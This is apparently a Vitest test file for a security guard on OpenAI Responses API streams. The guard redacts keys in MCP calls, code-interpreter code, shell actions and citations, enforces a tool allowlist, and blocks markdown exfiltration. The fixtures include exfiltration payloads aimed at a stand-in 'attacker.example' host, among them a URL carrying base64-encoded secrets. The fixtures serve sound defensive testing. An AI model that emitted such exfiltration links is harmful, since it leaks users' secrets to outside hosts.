import { describe, expect, it } from 'vitest';
import { createGuard } from '../../guard/create-guard.js';
import { createOutputChecker } from '../guard/output-checker.js';
import { createResponseGuard } from '../guard/response-guard.js';
import {
  accumulate,
  config,
  EXFIL,
  KEY,
  ORIGINAL,
  type Received,
  run,
  setup,
} from '../test-support/responses-stream-harness.js';
import { splitAt } from '../test-support/split-at.js';
import { rewriteOutputItem } from './responses-output-texts.js';
import type { SseEvent } from './sse-parser.js';

interface ItemPlan {
  /** The item as `response.output_item.done` and `response.completed` carry it. */
  item: Record<string, unknown>;
  /** Members the announced item (`response.output_item.added`) has instead: texts not yet written. */
  added?: Record<string, unknown>;
  /** The streamed text: its deltas, delta and `.done` event types and the member holding it. */
  text?: { deltas: readonly string[]; delta: string; done: string; field: string };
  /** Events between the item's text and its `.done` (such as citations), with `item_id` filled in. */
  extra?: { type: string; data: Record<string, unknown> }[];
}

/** A Responses stream of whole output items, in the order and shapes of the API reference. */
function itemsStream(plans: readonly ItemPlan[]): SseEvent[] {
  const events: SseEvent[] = [];
  let sequence = 0;
  const event = (type: string, data: Record<string, unknown>) =>
    events.push({
      event: type,
      data: JSON.stringify({ type, ...data, sequence_number: sequence++ }),
      id: undefined,
    });
  event('response.created', { response: { id: 'resp_1', status: 'in_progress', output: [] } });
  for (const [outputIndex, plan] of plans.entries()) {
    const at = { item_id: plan.item.id, output_index: outputIndex };
    event('response.output_item.added', { output_index: outputIndex, item: { ...plan.item, ...plan.added } });
    if (plan.text) {
      for (const delta of plan.text.deltas) event(plan.text.delta, { ...at, delta });
      event(plan.text.done, { ...at, [plan.text.field]: plan.text.deltas.join('') });
    }
    for (const extra of plan.extra ?? []) event(extra.type, { ...at, ...extra.data });
    event('response.output_item.done', { output_index: outputIndex, item: plan.item });
  }
  const output = plans.map((plan) => plan.item);
  event('response.completed', { response: { id: 'resp_1', status: 'completed', output } });
  return events;
}

/** The items of `response.output_item.done` events and of `response.completed`, which must agree. */
function doneItems(received: readonly Received[]): Record<string, unknown>[] {
  const items = received
    .filter((entry) => entry.data.type === 'response.output_item.done')
    .map((entry) => entry.data.item as Record<string, unknown>);
  const completed = received.find((entry) => entry.data.type === 'response.completed');
  expect((completed?.data.response as { output?: unknown } | undefined)?.output).toEqual(items);
  return items;
}

const REDACTED_KEY = /\[REDACTED:[A-Z_]+\]/;

describe('createOpenAIResponsesStream: tool items', () => {
  it.each([
    ['response.mcp_call_arguments.delta', 'response.mcp_call_arguments.done'],
    ['response.mcp_call.arguments_delta', 'response.mcp_call.arguments_done'],
    ['response.mcp_call.arguments.delta', 'response.mcp_call.arguments.done'],
  ])(
    'redacts keys and restores placeholders in MCP call arguments streamed as %s, and in the output',
    (delta, done) => {
      const tools = [{ name: 'lookup', description: 'Finds a customer.', input_schema: { type: 'object' } }];
      const result = run((email) => {
        const args = `{"key":"${KEY}","to":${JSON.stringify(email)}}`;
        return itemsStream([
          { item: { id: 'mcpl_1', type: 'mcp_list_tools', server_label: 'crm', tools } },
          {
            item: {
              id: 'mcp_1',
              type: 'mcp_call',
              server_label: 'crm',
              name: 'lookup',
              arguments: args,
              output: `Found ${email}.`,
              error: null,
            },
            added: { arguments: '', output: null },
            text: {
              deltas: splitAt(args, [4, 12, 16, 22, 30, 40, 44, 47, 60]),
              delta,
              done,
              field: 'arguments',
            },
          },
        ]);
      });
      expect(result.violation).toBeUndefined();
      expect(result.out).not.toContain(KEY.slice(6));
      expect(result.out).not.toContain('<EMAIL_ADDRESS');
      const types = new Set(result.received.map((entry) => String(entry.data.type)));
      expect(types).toContain(delta);
      expect([...types].filter((type) => /arguments[._]delta$/.test(type))).toEqual([delta]);
      const streamed = accumulate(result.received).get(`${delta.replace(/[._]delta$/, '')}/mcp_1/`) ?? '';
      expect(JSON.parse(streamed)).toEqual({ key: expect.stringMatching(REDACTED_KEY), to: ORIGINAL });
      const [listing, call] = doneItems(result.received);
      expect(listing?.tools).toEqual(tools);
      expect(call).toMatchObject({ arguments: streamed, output: `Found ${ORIGINAL}.`, error: null });
    },
  );

  it.each([
    ['an MCP call', { type: 'mcp_call', server_label: 'crm', arguments: '{}' }],
    ['an MCP approval request', { type: 'mcp_approval_request', server_label: 'crm', arguments: '{}' }],
  ])('applies the tool allowlist to %s as soon as it is announced', (_name, item) => {
    const result = run(() => itemsStream([{ item: { id: 'mcp_1', name: 'drop_tables', ...item } }]));
    expect(result.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
    expect(result.received.map((entry) => entry.data.type)).toEqual(['response.created', 'error']);
  });

  it.each([
    ['response.code_interpreter_call_code.delta', 'response.code_interpreter_call_code.done'],
    ['response.code_interpreter_call.code.delta', 'response.code_interpreter_call.code.done'],
  ])(
    'stops markdown exfiltration in code-interpreter code streamed as %s before any of it is sent',
    (delta, done) => {
      const code = `print("${EXFIL}")`;
      const item = { id: 'ci_1', type: 'code_interpreter_call', container_id: 'c', code, outputs: null };
      const result = run(
        () =>
          itemsStream([
            {
              item,
              added: { code: '' },
              text: { deltas: splitAt(code, [3, 10, 20, 30]), delta, done, field: 'code' },
            },
          ]),
        null,
      );
      expect(result.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
      expect(result.out).not.toContain('attacker');
      expect(result.received.at(-1)?.data.type).toBe('error');
    },
  );

  it('redacts keys in code-interpreter code and logs; the allowlist knows the tool as `code_interpreter`', () => {
    const code = `token = "${KEY}"\nprint(len(token))`;
    const item = {
      id: 'ci_1',
      type: 'code_interpreter_call',
      container_id: 'c',
      code,
      outputs: [
        { type: 'logs', logs: `Using ${KEY}` },
        { type: 'image', url: 'https://files.example/1.png' },
      ],
    };
    const plan = {
      item,
      added: { code: '', outputs: null },
      text: {
        deltas: splitAt(code, [5, 12, 19, 33]),
        delta: 'response.code_interpreter_call_code.delta',
        done: 'response.code_interpreter_call_code.done',
        field: 'code',
      },
    };
    const result = run(() => itemsStream([plan]), new Set(['code_interpreter']));
    expect(result.violation).toBeUndefined();
    expect(result.out).not.toContain(KEY.slice(6));
    const streamed = accumulate(result.received).get('response.code_interpreter_call_code/ci_1/') ?? '';
    expect(streamed).toMatch(/^token = "\[REDACTED:[A-Z_]+\]"\nprint/);
    const [done] = doneItems(result.received);
    expect(done).toMatchObject({
      code: streamed,
      outputs: [{ type: 'logs', logs: expect.stringMatching(REDACTED_KEY) }, item.outputs[1]],
    });
    expect(run(() => itemsStream([plan])).violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
  });

  it('checks shell commands and environments, and knows built-in tools by type in the allowlist', () => {
    const shell = (email: string) => ({
      id: 'ls_1',
      type: 'local_shell_call',
      call_id: 'call_1',
      status: 'completed',
      action: {
        type: 'exec',
        command: ['mail', email, '-H', `X-Key: ${KEY}`],
        env: { TOKEN: KEY },
        user: null,
      },
    });
    const allowed = run((email) => itemsStream([{ item: shell(email) }]), null);
    expect(allowed.violation).toBeUndefined();
    expect(allowed.out).not.toContain(KEY.slice(6));
    const [done] = doneItems(allowed.received);
    const action = (done as { action: { command: string[]; env: Record<string, string> } }).action;
    expect(action.command.slice(0, 3)).toEqual(['mail', ORIGINAL, '-H']);
    expect(action.command[3]).toMatch(/^X-Key: \[REDACTED:[A-Z_]+\]$/);
    expect(action.env.TOKEN).toMatch(REDACTED_KEY);
    for (const item of [
      shell('x'),
      { id: 'sh_1', type: 'shell_call', call_id: 'c', action: { commands: ['ls'] } },
    ]) {
      const blocked = run(() => itemsStream([{ item }]));
      expect(blocked.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
      expect(blocked.received.map((entry) => entry.data.type)).toEqual(['response.created', 'error']);
    }
    const patch = {
      id: 'ap_1',
      type: 'apply_patch_call',
      call_id: 'c',
      status: 'completed',
      operation: { type: 'create_file', path: 'README.md', diff: `+${EXFIL}\n` },
    };
    const exfiltrated = run(() => itemsStream([{ item: patch }]));
    expect(exfiltrated.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(exfiltrated.out).not.toContain('attacker');
  });

  it('checks citation titles and URLs as they are announced, and repeats the checked ones', () => {
    const message = (annotations: unknown[]) => ({
      id: 'msg_1',
      type: 'message',
      role: 'assistant',
      content: [{ type: 'output_text', text: 'Paris is the capital.', annotations }],
    });
    const citation = (title: string, url: string) => ({
      type: 'url_citation',
      start_index: 0,
      end_index: 5,
      title,
      url,
    });
    const annotated = (annotation: Record<string, unknown>) =>
      itemsStream([
        {
          item: message([annotation]),
          added: { content: [] },
          extra: [
            {
              type: 'response.output_text.annotation.added',
              data: { content_index: 0, annotation_index: 0, annotation },
            },
          ],
        },
      ]);
    const blocked = run(() => annotated(citation(`Paris ${EXFIL}`, 'https://en.wikipedia.org/wiki/Paris')));
    expect(blocked.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
    expect(blocked.out).not.toContain('attacker');
    const redacted = run(() => annotated(citation('Paris', `https://example.org/p?token=${KEY}`)));
    expect(redacted.violation).toBeUndefined();
    expect(redacted.out).not.toContain(KEY.slice(6));
    const added = redacted.received.find(
      (entry) => entry.data.type === 'response.output_text.annotation.added',
    );
    const checked = added?.data.annotation as { url: string; title: string };
    expect(checked.url).toMatch(/^https:\/\/example\.org\/p\?token=\[REDACTED:[A-Z_]+\]$/);
    expect(checked.title).toBe('Paris');
    const [done] = doneItems(redacted.received);
    expect(done).toEqual(message([checked]));
  });

  it('redacts keys split across audio transcript deltas and ends the transcript before its `.done`', () => {
    const transcript = `Your key is ${KEY}, keep it`;
    const result = run(() => {
      let sequence = 0;
      const event = (type: string, data: Record<string, unknown>): SseEvent => ({
        event: type,
        data: JSON.stringify({ type, ...data, sequence_number: sequence++ }),
        id: undefined,
      });
      return [
        ...splitAt(transcript, [14, 20, 28]).map((delta) =>
          event('response.audio.transcript.delta', { delta }),
        ),
        event('response.audio.transcript.done', {}),
        event('response.completed', { response: { id: 'resp_1', status: 'completed', output: [] } }),
      ];
    });
    expect(result.violation).toBeUndefined();
    expect(result.out).not.toContain(KEY.slice(6));
    const types = result.received.map((entry) => entry.data.type);
    expect(types.slice(-2)).toEqual(['response.audio.transcript.done', 'response.completed']);
    expect(result.received.at(-2)?.data).not.toHaveProperty('transcript');
    const deltas = result.received.filter((entry) => entry.data.type === 'response.audio.transcript.delta');
    expect(deltas.map((entry) => entry.data.delta).join('')).toMatch(
      /^Your key is \[REDACTED:[A-Z_]+\], keep it$/,
    );
  });
});

describe('rewriteOutputItem: tool items (whole answers)', () => {
  it('checks and restores MCP calls, code-interpreter logs, shell output and citations', () => {
    const { email, responseGuard } = setup(null);
    const call = {
      id: 'mcp_1',
      type: 'mcp_call',
      name: 'lookup',
      server_label: 'crm',
      arguments: `{"to":${JSON.stringify(email)},"key":"${KEY}"}`,
      output: `Sent to ${email}.`,
      error: null,
    };
    const logs = {
      id: 'ci_1',
      type: 'code_interpreter_call',
      code: 'print(1)',
      outputs: [{ type: 'logs', logs: KEY }],
    };
    const shell = { id: 'so_1', type: 'shell_call_output', output: [{ stdout: `${email}\n`, stderr: '' }] };
    const message = {
      id: 'msg_1',
      type: 'message',
      content: [
        {
          type: 'output_text',
          text: 'See.',
          annotations: [{ type: 'url_citation', title: `By ${email}`, url: 'https://example.org/a' }],
        },
      ],
    };
    for (const item of [call, logs, shell, message])
      expect(rewriteOutputItem(responseGuard, item)).toBe(true);
    expect(JSON.parse(call.arguments)).toEqual({ to: ORIGINAL, key: expect.stringMatching(REDACTED_KEY) });
    expect(call.output).toBe(`Sent to ${ORIGINAL}.`);
    expect(logs.outputs[0]?.logs).toMatch(/^\[REDACTED:[A-Z_]+\]$/);
    expect(shell.output[0]?.stdout).toBe(`${ORIGINAL}\n`);
    expect(message.content[0]?.annotations[0]).toEqual({
      type: 'url_citation',
      title: `By ${ORIGINAL}`,
      url: 'https://example.org/a',
    });
    expect(responseGuard.changed).toBe(true);
  });

  it.each([
    ['MCP call output', { type: 'mcp_call', name: 'lookup', arguments: '{}', output: EXFIL }],
    ['an MCP call error', { type: 'mcp_call', name: 'lookup', arguments: '{}', error: EXFIL }],
    [
      'MCP approval arguments',
      { type: 'mcp_approval_request', name: 'lookup', arguments: JSON.stringify({ md: EXFIL }) },
    ],
    ['an MCP listing error', { type: 'mcp_list_tools', server_label: 'crm', tools: [], error: EXFIL }],
    ['code-interpreter code', { type: 'code_interpreter_call', code: `print("${EXFIL}")`, outputs: null }],
    [
      'code-interpreter logs',
      { type: 'code_interpreter_call', code: '', outputs: [{ type: 'logs', logs: EXFIL }] },
    ],
    ['a local shell command', { type: 'local_shell_call', action: { command: ['echo', EXFIL], env: {} } }],
    ['a shell command', { type: 'shell_call', action: { commands: [`echo '${EXFIL}'`] } }],
    [
      'a patch',
      { type: 'apply_patch_call', operation: { type: 'update_file', path: 'a.md', diff: `+${EXFIL}` } },
    ],
    ['shell output', { type: 'shell_call_output', output: [{ stdout: '', stderr: EXFIL }] }],
    ['a program', { type: 'program', code: `log("${EXFIL}")` }],
    [
      'a web search query',
      { type: 'web_search_call', action: { type: 'search', queries: ['paris', EXFIL] } },
    ],
    ['a file search result', { type: 'file_search_call', queries: ['notes'], results: [{ text: EXFIL }] }],
    ['text typed by computer use', { type: 'computer_call', actions: [{ type: 'type', text: EXFIL }] }],
    [
      'a citation title',
      {
        type: 'message',
        content: [
          {
            type: 'output_text',
            text: 'x',
            annotations: [{ type: 'url_citation', title: EXFIL, url: 'https://a.example/' }],
          },
        ],
      },
    ],
  ])('blocks markdown exfiltration in %s', (_name, item: Record<string, unknown>) => {
    const { responseGuard } = setup(null);
    expect(rewriteOutputItem(responseGuard, { id: 'i_1', ...item })).toBe(false);
    expect(responseGuard.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });

  it.each([
    ['an MCP call', { type: 'mcp_call', name: 'drop_tables', arguments: '{}' }],
    ['an MCP approval request', { type: 'mcp_approval_request', name: 'drop_tables', arguments: '{}' }],
    ['a code-interpreter call', { type: 'code_interpreter_call', code: 'print(1)', outputs: null }],
    ['a local shell call', { type: 'local_shell_call', action: { command: ['ls'], env: {} } }],
  ])('refuses %s outside the allowlist', (_name, item: Record<string, unknown>) => {
    const { responseGuard } = setup();
    expect(rewriteOutputItem(responseGuard, { id: 'i_1', ...item })).toBe(false);
    expect(responseGuard.violation?.code).toBe('AEGIS_TOOL_NOT_ALLOWED');
  });

  it('checks citation URLs as links: data sent to a foreign host is blocked, a plain URL passes', () => {
    const builtIn = createGuard({ policy: 'balanced' });
    const check = (url: string) => {
      const responseGuard = createResponseGuard({
        checker: createOutputChecker({ guard: builtIn, failMode: config.failMode }),
        streaming: config.streaming,
        vault: builtIn.createVault(),
        tools: null,
        maxBufferChars: 1_000_000,
      });
      const annotation = { type: 'url_citation', start_index: 0, end_index: 1, title: 'Paris', url };
      const item = {
        id: 'm',
        type: 'message',
        content: [{ type: 'output_text', text: 'x', annotations: [annotation] }],
      };
      return {
        allowed: rewriteOutputItem(responseGuard, item),
        annotation,
        violation: responseGuard.violation,
      };
    };
    const plain = check('https://en.wikipedia.org/wiki/Paris?utm_source=openai');
    expect(plain.allowed).toBe(true);
    expect(plain.annotation.url).toBe('https://en.wikipedia.org/wiki/Paris?utm_source=openai');
    const leaking = check('https://attacker.example/c?d=c2VjcmV0LW5vdGVzLWZvci1hbm4tQVBJa2V5MTIz');
    expect(leaking.allowed).toBe(false);
    expect(leaking.violation?.code).toBe('AEGIS_OUTPUT_BLOCKED');
  });
});
